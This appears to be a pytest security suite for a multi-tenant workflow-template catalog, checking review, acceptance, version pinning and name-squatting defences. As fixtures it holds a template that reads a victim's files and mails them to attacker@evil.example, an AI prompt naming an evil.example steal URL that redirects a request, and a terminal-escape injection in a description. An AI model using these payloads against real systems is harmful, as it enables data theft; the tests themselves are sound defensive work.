"""The public template catalog can be trusted (issue 16): a stranger's template is never reached
by a bare name, never public before the platform operator approved it, never run before the
caller's admin accepted it, and then runs pinned to the accepted version; no impostor takes a
platform template's name; nobody hijacks or breaks a shared name by squatting it.

Real API, worker, PostgreSQL, Temporal and SMTP sink; the platform operator's review goes
through CatalogReview (what `wfs template approve` calls) or the `wfs` CLI itself."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from sqlalchemy import text

from app.api.relay import from_global_id
from app.db import make_engine, make_sessionmaker
from app.embedded.mail import DevMailSink
from app.migrate import upgrade_async
from app.settings import Settings
from app.templates.catalog import capabilities_of, host_of
from app.templates.lifecycle import checked_spec
from app.templates.review import CatalogReview
from app.templates.schemas import TemplateSpec
from app.tenants.service import TenantService
from tests.api.test_execution_flow import wait_terminal
from tests.conftest import Services, TenantKeys, make_tenant
from tests.security.test_sec_tiers import wfs
from tests.support import GraphQLClient
from tests.templates.template_kit import (
    accept,
    approve,
    deprecate,
    make_spec,
    op,
    publish,
    published,
    set_visibility,
    share,
    start,
    unique_name,
    update_draft,
)

ATTACKER_MAIL = "attacker@evil.example"
SEARCH = """query($search: String, $orderBy: TemplateOrder, $after: String) {
  templates(search: $search, orderBy: $orderBy, first: 2, after: $after) {
    edges { node { id name publisher { name verified } } }
    pageInfo { hasNextPage endCursor } } }"""

RUNS_TEMPLATE = "query($id: ID!) { execution(id: $id) { template { id } } }"


def exfiltration_spec(name: str = "quarterly-report") -> dict[str, Any]:
    """The red team's template: list the runner's samples/, read each file, mail them out."""
    return {
        "name": name,
        "title": "Quarterly report",
        "description": "Collects the quarter's documents into one report.",
        "tags": ["reports"],
        "parameters": {"type": "object"},
        "steps": [
            {"id": "listing", "activity": "files.list", "input": {"prefix": "samples/"}},
            {
                "id": "contents",
                "activity": "files.read",
                "for_each": "steps.listing",
                "input": {"path": "{{ item.path }}"},
            },
            {
                "id": "mail",
                "activity": "email.send",
                "input": {
                    "to": ATTACKER_MAIL,
                    "subject": "quarterly report",
                    "text": "Report: {{ steps.contents }}",
                },
            },
        ],
        "example_params": {},
    }


async def tenant_id(sessions: Any, name: str) -> uuid.UUID:
    async with sessions() as s:
        return (await TenantService(s).get_by_name(name)).id


async def plant_secret(sessions: Any, settings: Settings, who: TenantKeys) -> str:
    """A file in the victim's storage that only the victim may read."""
    secret = f"secret-{uuid.uuid4().hex}"
    folder = settings.files_root / str(await tenant_id(sessions, who.name)) / "samples"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "payroll.txt").write_text(secret)
    return secret


def mailed(mail_sink: DevMailSink, needle: str) -> list[Any]:
    return [m for m in mail_sink.messages() if needle in str(m)]


async def template_error(client: GraphQLClient, **variables: Any) -> str | None:
    body = await client.raw(op("Template"), variables)
    return str(body["errors"][0]["extensions"]["code"]) if body.get("errors") else None


async def details(client: GraphQLClient, template_id: str) -> dict[str, Any]:
    return (await client.data(op("TemplateDetails"), {"id": template_id}))["template"]


async def executions_of(client: GraphQLClient) -> list[dict[str, Any]]:
    data = await client.data(op("Executions"), {"first": 50})
    return [e["node"] for e in data["executions"]["edges"]]


# -- the red team's exfiltration ----------------------------------------------------------


async def test_a_strangers_public_template_never_runs_unasked(
    server: str, sessions: Any, settings: Settings, mail_sink: DevMailSink
) -> None:
    attacker = await make_tenant(sessions, "free")
    victim = await make_tenant(sessions, "premium")
    secret = await plant_secret(sessions, settings, victim)
    evil = GraphQLClient(server, attacker.admin)
    victim_admin = GraphQLClient(server, victim.admin)
    qualified = f"{attacker.name}/quarterly-report"

    created = await published(evil, exfiltration_spec(), visibility="PUBLIC")
    template_id = created["id"]
    # Before review: the owner sees its request pending; nobody else sees anything.
    mine = await evil.data(op("TemplateVersions"), {"id": template_id, **_versions(1)})
    assert mine["template"]["publicVersion"] is None
    assert mine["template"]["versions"][0]["reviewStatus"] == "PENDING"
    for ref in ({"templateName": "quarterly-report"}, {"templateName": qualified}):
        assert (await start(victim_admin, **ref))["code"] == "NOT_FOUND"
    assert (await start(victim_admin, templateId=template_id))["code"] == "NOT_FOUND"
    assert await template_error(victim_admin, id=template_id) == "NOT_FOUND"
    assert await template_error(victim_admin, name=qualified) == "NOT_FOUND"

    await approve(sessions, template_id, 1)
    # A bare name still never reaches another tenant's public template.
    assert (await start(victim_admin, templateName="quarterly-report"))["code"] == "NOT_FOUND"
    assert await template_error(victim_admin, name="quarterly-report") == "NOT_FOUND"
    # By id or qualified name it is visible, with who published it and what it does.
    shown = await details(victim_admin, template_id)
    assert shown["publisher"] == {"name": attacker.name, "verified": False}
    assert shown["qualifiedName"] == qualified
    assert shown["currentVersion"] == 1 and shown["acceptedVersion"] is None
    assert shown["capabilities"] == {
        "activities": ["email.send", "files.list", "files.read"],
        "sendsMail": True,
        "readsFiles": True,
        "writesFiles": False,
        "callsHosts": [],
        "usesAi": False,
    }
    assert await template_error(victim_admin, name=qualified) is None
    # Running it needs an admin's acceptance of that exact version first.
    for ref in ({"templateId": template_id}, {"templateName": qualified}):
        refused = await start(victim_admin, **ref)
        assert refused["__typename"] == "ForbiddenError", refused
        assert "accept version 1" in refused["message"]
        assert attacker.name in refused["message"]
    assert await executions_of(victim_admin) == []
    assert not mailed(mail_sink, secret)


def _versions(number: int) -> dict[str, int]:
    return {"number": number, "from": number, "to": number}


async def test_an_accepted_template_runs_pinned_to_the_accepted_version(
    server: str, sessions: Any, settings: Settings, mail_sink: DevMailSink
) -> None:
    """The patient attack: a harmless v1 is approved and accepted, then v2 turns malicious.
    v2 waits for review; approved, it is offered but not run until an admin accepts it."""
    publisher = await make_tenant(sessions, "free")
    runner = await make_tenant(sessions, "premium")
    secret = await plant_secret(sessions, settings, runner)
    owner = GraphQLClient(server, publisher.admin)
    admin = GraphQLClient(server, runner.admin)
    operator = GraphQLClient(server, runner.operator)
    harmless = make_spec("quarterly-report", example_params={"rows": []})
    template_id = (await published(owner, harmless, visibility="PUBLIC"))["id"]
    await approve(sessions, template_id, 1)
    assert (await accept(admin, template_id, 1))["acceptedVersion"] == 1

    async def run_version() -> int:
        started = await start(operator, templateId=template_id, params={"rows": [{"v": 1}]})
        assert started["__typename"] == "Execution", started
        await wait_terminal(operator, started["id"])
        return int(started["templateVersion"])

    assert await run_version() == 1
    malicious = {
        **exfiltration_spec(),
        "parameters": harmless["parameters"],
        "example_params": {"rows": []},
    }
    assert (await update_draft(owner, template_id, malicious))["__typename"] == "Template"
    assert (await publish(owner, template_id))["__typename"] == "Template"
    # v2 is PENDING: the owner sees it, others still see and run v1 only.
    owners_view = await owner.data(op("TemplateVersions"), {"id": template_id, **_versions(2)})
    assert [v["reviewStatus"] for v in owners_view["template"]["versions"]] == [
        "APPROVED",
        "PENDING",
    ]
    seen = await details(admin, template_id)
    # Not even the number of the version under review shows.
    assert (seen["currentVersion"], seen["publicVersion"], seen["latestVersion"]) == (1, 1, 1)
    theirs = await admin.data(op("TemplateVersions"), {"id": template_id, **_versions(1)})
    assert [v["version"] for v in theirs["template"]["versions"]] == [1]
    assert all(v["reviewStatus"] is None for v in theirs["template"]["versions"])
    assert (await accept(admin, template_id, 2))["code"] == "CONFLICT"
    assert await run_version() == 1

    await approve(sessions, template_id, 2)
    seen = await details(admin, template_id)
    assert (seen["currentVersion"], seen["acceptedVersion"]) == (2, 1)
    assert seen["capabilities"]["sendsMail"] and seen["capabilities"]["readsFiles"]
    assert await run_version() == 1  # pinned: v2 is offered, not accepted
    assert not mailed(mail_sink, secret)

    # Accepting is the admin's decision, never an operator's.
    assert (await accept(operator, template_id, 2))["code"] == "FORBIDDEN"
    assert (await accept(admin, template_id, 2))["acceptedVersion"] == 2
    started = await start(operator, templateId=template_id, params={"rows": []})
    assert started["templateVersion"] == 2, started


async def test_withdrawing_from_the_catalog_stops_others_runs(server: str, sessions: Any) -> None:
    publisher, runner = await make_tenant(sessions), await make_tenant(sessions)
    owner = GraphQLClient(server, publisher.admin)
    admin = GraphQLClient(server, runner.admin)
    template_id = (await published(owner, make_spec(), visibility="PUBLIC"))["id"]
    await approve(sessions, template_id, 1)
    await accept(admin, template_id, 1)
    assert (await start(admin, templateId=template_id, params={"rows": []}))["templateVersion"]
    assert (await set_visibility(owner, template_id, "SHARED"))["publicVersion"] is None
    assert (await start(admin, templateId=template_id, params={"rows": []}))["code"] == "NOT_FOUND"


# -- impostors of platform templates -------------------------------------------------------


async def test_no_impostor_takes_a_platform_name_and_the_standard_one_ranks_first(
    server: str, sessions: Any
) -> None:
    squatter, victim = await make_tenant(sessions), await make_tenant(sessions)
    evil = GraphQLClient(server, squatter.admin)
    reader = GraphQLClient(server, victim.viewer)
    impostor = make_spec("order-summary", title="Order summary", description="Order summary.")
    refused = await evil.data(
        op("CreateTemplate"), {"input": {"spec": impostor, "visibility": "PUBLIC"}}
    )
    assert refused["createTemplate"]["code"] == "CONFLICT"
    squat = await published(evil, impostor)
    asked = await set_visibility(evil, squat["id"], "PUBLIC")
    assert asked["code"] == "CONFLICT" and "platform template" in asked["message"]

    # A look-alike under another name, approved, outranks on words but never on trust.
    lookalike = make_spec(
        f"order-summary-{uuid.uuid4().hex[:6]}",
        title="Order summary order summary",
        description="Order summary: order, summary, order summary.",
        tags=["order", "summary"],
    )
    lookalike_id = (await published(evil, lookalike, visibility="PUBLIC"))["id"]
    await approve(sessions, lookalike_id, 1)
    for order in ("RELEVANCE", "NAME"):
        edges, after = [], None
        while True:  # page by 2: the cursor carries the verified-first order too
            page = (
                await reader.data(
                    SEARCH, {"search": "order summary", "orderBy": order, "after": after}
                )
            )["templates"]
            edges += [e["node"] for e in page["edges"]]
            if not page["pageInfo"]["hasNextPage"]:
                break
            after = page["pageInfo"]["endCursor"]
        verified = [n["publisher"]["verified"] for n in edges]
        assert verified == sorted(verified, reverse=True), (order, edges)
        assert edges[0]["name"] == "order-summary" and edges[0]["publisher"] == {
            "name": "workflow-service",
            "verified": True,
        }
        ours = [n for n in edges if n["id"] == lookalike_id]
        assert ours and ours[0]["publisher"] == {"name": squatter.name, "verified": False}
        assert len({n["id"] for n in edges}) == len(edges)
    found = (await reader.data(op("Template"), {"name": "order-summary"}))["template"]
    assert found["id"] not in (squat["id"], lookalike_id)
    platform = await reader.data(op("Template"), {"name": "workflow-service/order-summary"})
    assert platform["template"]["id"] == found["id"]


# -- squatting a shared name ----------------------------------------------------------------


async def test_squatting_a_shared_name_neither_hijacks_nor_breaks_it(
    server: str, sessions: Any
) -> None:
    acme, victim, squatter, sharer = [await make_tenant(sessions) for _ in range(4)]
    acme_admin = GraphQLClient(server, acme.admin)
    victim_admin = GraphQLClient(server, victim.admin)
    evil, evil_sharer = GraphQLClient(server, squatter.admin), GraphQLClient(server, sharer.admin)
    billing = make_spec("acme-billing")
    real = (await published(acme_admin, billing))["id"]
    await share(acme_admin, real, [victim.name])
    await accept(victim_admin, real, 1)

    async def by_bare_name() -> dict[str, Any]:
        return await start(victim_admin, templateName="acme-billing", params={"rows": []})

    assert (await by_bare_name())["__typename"] == "Execution"
    # A PUBLIC squat, approved, and the same name shared with the victim unasked.
    squat = (await published(evil, billing, visibility="PUBLIC"))["id"]
    await approve(sessions, squat, 1)
    unasked = (await published(evil_sharer, make_spec("acme-billing")))["id"]
    await share(evil_sharer, unasked, [victim.name])
    resolved = (await victim_admin.data(op("Template"), {"name": "acme-billing"}))["template"]
    assert resolved["id"] == real
    ran = await by_bare_name()
    runs = await victim_admin.data(RUNS_TEMPLATE, {"id": ran["id"]})
    assert runs["execution"]["template"]["id"] == real

    # Acme revokes: the bare name reaches the unasked share at most, which cannot run unasked.
    await share(acme_admin, real, [victim.name], revoke=True)
    refused = await by_bare_name()
    assert refused["code"] == "FORBIDDEN" and sharer.name in refused["message"]
    await share(evil_sharer, unasked, [victim.name], revoke=True)
    assert (await by_bare_name())["code"] == "NOT_FOUND"  # the PUBLIC squat is never reached


async def test_two_unaccepted_shares_of_one_name_ask_for_the_id_or_qualified_name(
    server: str, sessions: Any
) -> None:
    first, second, guest = [await make_tenant(sessions) for _ in range(3)]
    name = f"shared-{uuid.uuid4().hex[:6]}"
    for owner in (first, second):
        client = GraphQLClient(server, owner.admin)
        created = await published(client, make_spec(name))
        await share(client, created["id"], [guest.name])
    guest_admin = GraphQLClient(server, guest.admin)
    conflict = await start(guest_admin, templateName=name, params={"rows": []})
    assert conflict["code"] == "CONFLICT" and "qualified name" in conflict["message"]
    qualified = (await guest_admin.data(op("Template"), {"name": f"{second.name}/{name}"}))[
        "template"
    ]
    assert (await accept(guest_admin, qualified["id"], 1))["acceptedVersion"] == 1
    started = await start(guest_admin, templateName=f"{second.name}/{name}", params={"rows": []})
    assert started["__typename"] == "Execution"
    # Once one of them is accepted, the bare name means that one.
    resolved = (await guest_admin.data(op("Template"), {"name": name}))["template"]
    assert resolved["id"] == qualified["id"]


# -- the platform operator's CLI ----------------------------------------------------------


async def test_operator_reviews_approves_and_rejects_with_the_cli(
    server: str, sessions: Any, settings: Settings, tmp_path: Path
) -> None:
    assert settings.database_url
    owner_keys, other = await make_tenant(sessions), await make_tenant(sessions)
    owner = GraphQLClient(server, owner_keys.admin)
    reader = GraphQLClient(server, other.viewer)
    spec = exfiltration_spec(f"report-{uuid.uuid4().hex[:6]}")
    # The text every tenant would read (round 2, H1): the operator reviews it too, escaped
    # so that it cannot forge lines or drive the terminal.
    spec["description"] = "Collects the quarter's documents.\nno template waits\x1b[2J"
    spec["tags"], spec["category"] = ["reports", "official"], "finance"
    created = await published(owner, spec, "PUBLIC")
    template_id = created["id"]
    pk = str(await _pk(sessions, owner_keys.name, created["name"]))

    code, out, err = await wfs(settings.database_url, tmp_path, "template", "reviews")
    assert code == 0, err
    lines = out.splitlines()
    [at] = [i for i, line in enumerate(lines) if pk in line]
    assert f"{owner_keys.name}/{created['name']}  v1" in lines[at]
    assert "email.send" in lines[at] and "sends mail" in lines[at] and "reads files" in lines[at]
    assert lines[at + 1 : at + 5] == [
        "    title: 'Quarterly report'",
        '    description: "Collects the quarter\'s documents.\\nno template waits\\x1b[2J"',
        "    tags: ['reports', 'official']",
        "    category: 'finance'",
    ]
    assert "\x1b" not in out

    code, out, err = await wfs(
        settings.database_url,
        tmp_path,
        "template",
        "reject",
        pk,
        "1",
        "--reason",
        "mails files out",
    )
    assert code == 0, err
    versions = await owner.data(op("TemplateVersions"), {"id": template_id, **_versions(1)})
    [v1] = versions["template"]["versions"]
    assert (v1["reviewStatus"], v1["reviewNote"]) == ("REJECTED", "mails files out")
    assert await template_error(reader, id=template_id) == "NOT_FOUND"
    code, _, err = await wfs(settings.database_url, tmp_path, "template", "approve", pk, "1")
    assert code == 1 and "not pending review" in err  # rejected stays rejected
    code, _, err = await wfs(settings.database_url, tmp_path, "template", "reject", pk, "1")
    assert code == 2 and "--reason" in err

    # The owner asks again (a rejected version is submitted anew); the operator approves.
    assert (await set_visibility(owner, template_id, "PUBLIC"))["__typename"] == "Template"
    code, out, err = await wfs(settings.database_url, tmp_path, "template", "approve", pk, "1")
    assert code == 0 and "public v1" in out, err
    assert await template_error(reader, id=template_id) is None
    code, _, err = await wfs(
        settings.database_url, tmp_path, "template", "approve", str(uuid.uuid4()), "1"
    )
    assert code == 1 and err.startswith("error: no tenant template")


async def _pk(sessions: Any, tenant_name: str, name: str) -> uuid.UUID:
    async with sessions() as s:
        return (
            await s.execute(
                text(
                    "SELECT t.id FROM templates t JOIN tenants n ON n.id = t.tenant_id "
                    "WHERE n.name = :tenant AND t.name = :name"
                ),
                {"tenant": tenant_name, "name": name},
            )
        ).scalar_one()


# -- the upgrade ------------------------------------------------------------------------------


async def test_the_upgrade_takes_unreviewed_public_templates_out_of_the_catalog(
    services: Services,
) -> None:
    """Migration 0008 on a database at 0007 holding a tenant's PUBLIC template: the template
    is no longer public until the platform approves it; its latest version waits in review."""
    name = f"wfs_mig_{uuid.uuid4().hex[:8]}"
    plain = services.admin_db_url.replace("+asyncpg", "")
    admin = await asyncpg.connect(plain)
    await admin.execute(f'CREATE DATABASE "{name}"')
    base, _, query = plain.partition("?")
    url = base.rsplit("/", 1)[0] + f"/{name}" + (f"?{query}" if query else "")
    try:
        await upgrade_async(url, "0007")
        conn = await asyncpg.connect(url.replace("postgresql+asyncpg", "postgresql"))
        try:
            tenant = await conn.fetchval(
                "INSERT INTO tenants (id, name, tier, created_at) "
                "VALUES (gen_random_uuid(), 'old', 'free', now()) RETURNING id"
            )
            template = await conn.fetchval(
                "INSERT INTO templates (id, tenant_id, name, title, description, tags, "
                "visibility, latest_version, created_at, updated_at) VALUES (gen_random_uuid(), "
                "$1, 'old-public', 'Old', '', '{}', 'PUBLIC', 2, now(), now()) RETURNING id",
                tenant,
            )
            for number in (1, 2):
                await conn.execute(
                    "INSERT INTO template_versions (id, template_id, version, status, spec, "
                    "created_at) VALUES (gen_random_uuid(), $1, $2, 'PUBLISHED', '{}', now())",
                    template,
                    number,
                )
        finally:
            await conn.close()
        await upgrade_async(url)
        engine = make_engine(url, pool_size=1)
        try:
            async with make_sessionmaker(engine)() as s:
                public = (
                    await s.execute(text("SELECT public_version FROM templates"))
                ).scalar_one()
                reviews = (
                    await s.execute(
                        text("SELECT version, review_status FROM template_versions ORDER BY 1")
                    )
                ).all()
        finally:
            await engine.dispose()
        assert public is None
        assert [tuple(r) for r in reviews] == [(1, None), (2, "PENDING")]
    finally:
        await admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        await admin.close()


# -- capabilities (pure) ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://api.example.com/v1", "api.example.com"),
        ("https://api.example.com/items/{{ params.id }}", "api.example.com"),
        ("https://api.example.com?q={{ params.q }}", "api.example.com"),
        ("https://{{ params.host }}/x", "*"),
        ("https://api.example.com{{ params.rest }}", "*"),
        ("https://user@{{ params.host }}/", "*"),
        ("{{ params.url }}", "*"),
        ("http{% if true %}s{% endif %}://a.example/", "*"),
        (["https://a.example/"], "*"),
    ],
)
def test_a_host_chosen_by_an_expression_is_shown_as_any_host(url: Any, host: str) -> None:
    assert host_of({"url": url}) == host


def test_capabilities_count_compensations_and_enhancement_points() -> None:
    spec = {
        "steps": [
            {
                "id": "a",
                "activity": "data.transform",
                "input": {},
                "compensate": {"activity": "files.delete", "input": {"path": "x"}},
                "enhancements": [
                    {"task": "summarize", "input": {"text": "x"}, "apply": {"t": "s"}}
                ],
            },
            {"id": "b", "activity": "http.request", "input": {"url": "https://b.example/"}},
        ]
    }
    found = capabilities_of(spec)
    assert found.activities == ["data.transform", "files.delete", "http.request"]
    assert found.writes_files and not found.reads_files and not found.sends_mail
    assert found.uses_ai and found.calls_hosts == ["b.example"]


@pytest.mark.parametrize("name", ["workflow-service", "Workflow-Service"])
async def test_no_tenant_takes_the_platforms_publisher_name(sessions: Any, name: str) -> None:
    from app.errors import Conflict

    async with sessions() as session:
        with pytest.raises(Conflict, match="platform's own publisher name"):
            await TenantService(session).create_tenant(name, "free")


@pytest.mark.parametrize(
    "name",
    ["workflow\u2010service", "workflow-serv\u0456ce", "workflow-service\u200b", "acme/x", "Acme"],
)
async def test_tenant_names_are_plain_ascii_so_no_publisher_looks_like_another(
    sessions: Any, name: str
) -> None:
    from app.errors import ValidationFailed

    async with sessions() as session:
        with pytest.raises(ValidationFailed, match="lower-case letters"):
            await TenantService(session).create_tenant(name, "free")


# -- round 2: what the catalog shows is what was reviewed -----------------------------------

FILTERED = """query($search: String, $tags: [String!], $category: String) {
  templates(search: $search, tags: $tags, category: $category, first: 50) {
    edges { node { id title } } } }"""


async def found_by(client: GraphQLClient, **criteria: Any) -> set[str]:
    data = await client.data(FILTERED, criteria)
    return {e["node"]["id"] for e in data["templates"]["edges"]}


async def test_unreviewed_and_rejected_text_never_reaches_the_catalog(
    server: str, sessions: Any
) -> None:
    """Red team round 2 (H1): v2 of an approved public template renamed itself "Order Summary
    (official, verified...)"; while PENDING and even after REJECTED, every tenant read and
    searched v2's title, description, tags and category, though only v1 was offered."""
    publisher, other = await make_tenant(sessions), await make_tenant(sessions)
    owner = GraphQLClient(server, publisher.admin)
    reader = GraphQLClient(server, other.viewer)
    marker = f"impostor{uuid.uuid4().hex[:8]}"
    v1 = make_spec(
        f"ordersum-{uuid.uuid4().hex[:6]}",
        title="Order summary helper",
        description="Totals line items.",
        tags=["orders"],
        category="finance",
    )
    template_id = (await published(owner, v1, visibility="PUBLIC"))["id"]
    await approve(sessions, template_id, 1)
    listing_v1 = ("Order summary helper", "Totals line items.", ["orders"], "finance")

    async def listing() -> tuple[Any, ...]:
        t = await details(reader, template_id)
        return t["title"], t["description"], t["tags"], t["category"]

    v2 = {
        **v1,
        "title": "Order Summary (official, verified by workflow-service)",
        "description": f"The official workflow-service order-summary template. {marker}",
        "tags": ["official", "verified"],
        "category": "platform",
    }
    assert (await update_draft(owner, template_id, v2))["__typename"] == "Template"
    assert (await publish(owner, template_id))["__typename"] == "Template"

    async def v2_text_is_hidden() -> None:
        assert await listing() == listing_v1
        assert template_id not in await found_by(reader, search=marker)
        assert template_id not in await found_by(reader, search="official verified")
        assert template_id not in await found_by(reader, tags=["verified"])
        assert template_id not in await found_by(reader, category="platform")
        assert template_id in await found_by(reader, search="order summary helper")

    await v2_text_is_hidden()  # PENDING
    # The owner still reads each version's own text.
    mine = await owner.data(op("TemplateVersions"), {"id": template_id, **_versions(2)})
    assert mine["template"]["version"]["spec"]["title"] == v2["title"]

    async with sessions() as session:
        pk = from_global_id(template_id, "Template")[1]
        await CatalogReview(session).reject(pk, 2, "impersonates the platform")
        await session.commit()
    await v2_text_is_hidden()  # REJECTED

    # Approval is what moves the listing: v3's text once v3 is approved, not before.
    v3 = {**v1, "title": "Order totals", "description": "Sums line items.", "tags": ["sums"]}
    assert (await update_draft(owner, template_id, v3))["__typename"] == "Template"
    assert (await publish(owner, template_id))["__typename"] == "Template"
    assert await listing() == listing_v1
    await approve(sessions, template_id, 3)
    assert await listing() == ("Order totals", "Sums line items.", ["sums"], "finance")
    assert template_id in await found_by(reader, search="order totals")
    assert template_id not in await found_by(reader, search="order summary helper")


# -- round 2: capabilities tell where calls go and whether AI runs ----------------------------

AI_URL_POINT = {
    "task": "generate_text",
    "min_tier": "free",
    "fallback": "plain",
    "input": {"prompt_template": "x\n\nhttps://evil.example/steal?d=1"},
    "apply": {"url": "text"},
}


def _step(activity: str, step_input: dict[str, Any], *points: dict[str, Any]) -> dict[str, Any]:
    return {
        "name": f"caps-{uuid.uuid4().hex[:6]}",
        "title": "caps",
        "steps": [
            {"id": "s", "activity": activity, "input": step_input, "enhancements": list(points)}
        ],
    }


def test_a_url_an_enhancement_point_may_set_is_any_host() -> None:
    """Red team round 2 (M1): the AI's output replaced the url of a step whose capabilities
    said it called api.example.com; the run went to the host the prompt named."""
    literal = {"method": "GET", "url": "https://api.example.com/ok"}
    spec = checked_spec(_step("http.request", literal, AI_URL_POINT))
    found = capabilities_of(spec.model_dump(mode="json"))
    assert found.calls_hosts == ["*"] and found.uses_ai
    # A dotted target that starts at url is the url too; other fields keep the literal host.
    dotted = capabilities_of(
        _step("http.request", literal, {**AI_URL_POINT, "apply": {"url.x": "text"}})
    )
    assert dotted.calls_hosts == ["*"]
    headers = {**AI_URL_POINT, "apply": {"headers.X-Note": "text"}}
    assert capabilities_of(_step("http.request", literal, headers)).calls_hosts == [
        "api.example.com"
    ]
    # A point the worker never runs (no input) cannot move the call.
    idle = {k: v for k, v in AI_URL_POINT.items() if k != "input"}
    assert capabilities_of(_step("http.request", literal, idle)).calls_hosts == ["api.example.com"]
    # Recipients chosen by the AI: still mail (the flag says any recipient is possible).
    mail = {"to": ["a@example.com"], "subject": "s", "text": "t"}
    to_point = {**AI_URL_POINT, "apply": {"to": "text"}}
    assert capabilities_of(_step("email.send", mail, to_point)).sends_mail


@pytest.mark.parametrize(
    "point",
    [
        {"input": {}, "apply": {"data": "text"}},  # round 2 (L1): empty input still runs
        {"input": {"prompt_template": "x"}, "apply": {"data": "text"}},
        {"apply": {"data": "text"}},
        {"input": {"prompt_template": "x"}},
        {"input": {"prompt_template": "x"}, "apply": {}},
        {},  # a point with neither: the plain path only
    ],
)
def test_uses_ai_is_the_workers_own_rule_for_an_active_point(point: dict[str, Any]) -> None:
    """usesAi says whether the worker will run the point's AI task: the same spec, planned as
    the worker gets it, is active for workers.enhancements.active_points exactly when usesAi.
    (Validation refuses some of these shapes today; stored versions and the worker do not.)"""
    from workers.enhancements import active_points

    full = {"task": "generate_text", "min_tier": "free", "fallback": "plain", **point}
    spec = TemplateSpec.model_validate(_step("data.transform", {"data": {"t": "plain"}}, full))
    [plan] = spec.plan(default_timeout=30, default_attempts=1)
    assert capabilities_of(spec.model_dump(mode="json")).uses_ai == bool(active_points(plan))


# -- round 2: a retry is a run like a start ---------------------------------------------------

RETRY = """mutation($id: ID!) { retryExecution(id: $id) {
  __typename ... on Execution { id status } ... on UserError { code message } } }"""
FAILING_READ = {
    "title": "Read an order",
    "parameters": {"type": "object"},
    "steps": [{"id": "read", "activity": "files.read", "input": {"path": "inbox/absent.json"}}],
    "example_params": {},
}


async def test_retrying_another_publishers_version_needs_what_a_start_needs(
    server: str, sessions: Any
) -> None:
    """Red team round 2 (L3): after the publisher withdrew its template (deprecated, no longer
    shared), a new start was NOT_FOUND but retryExecution ran the old version again in the
    runner's tenant. Now a retry is refused whenever a start of that version would be."""
    publisher, runner = await make_tenant(sessions), await make_tenant(sessions)
    owner = GraphQLClient(server, publisher.admin)
    admin = GraphQLClient(server, runner.admin)
    template_id = (await published(owner, {"name": unique_name("read"), **FAILING_READ}))["id"]
    await share(owner, template_id, [runner.name])
    await accept(admin, template_id, 1)
    started = await start(admin, templateId=template_id)
    assert started["__typename"] == "Execution", started
    assert (await wait_terminal(admin, started["id"]))["status"] == "FAILED"

    async def retry() -> dict[str, Any]:
        return (await admin.data(RETRY, {"id": started["id"]}))["retryExecution"]

    async def runs() -> int:
        execution = await wait_terminal(admin, started["id"])
        return sum(e["type"] == "RETRIED" for e in execution["events"])

    # While the accepted version may start, it may be retried.
    assert (await retry())["__typename"] == "Execution"
    assert await runs() == 1
    # The admin moved the acceptance to v2: v1 no longer runs in this tenant.
    changed = {**FAILING_READ, "title": "Read an order, v2"}
    name = (await details(owner, template_id))["name"]
    assert (await update_draft(owner, template_id, {"name": name, **changed}))["__typename"]
    assert (await publish(owner, template_id))["__typename"] == "Template"
    await accept(admin, template_id, 2)
    moved = await retry()
    assert moved["code"] == "CONFLICT" and "accepts version 2" in moved["message"], moved
    # Deprecated v2 and no longer shared: a start is NOT_FOUND, and so is the retry.
    await deprecate(owner, template_id, 2)
    await set_visibility(owner, template_id, "PRIVATE")
    assert (await start(admin, templateId=template_id))["code"] == "NOT_FOUND"
    assert (await retry())["code"] == "NOT_FOUND"
    assert await runs() == 1  # nothing ran again
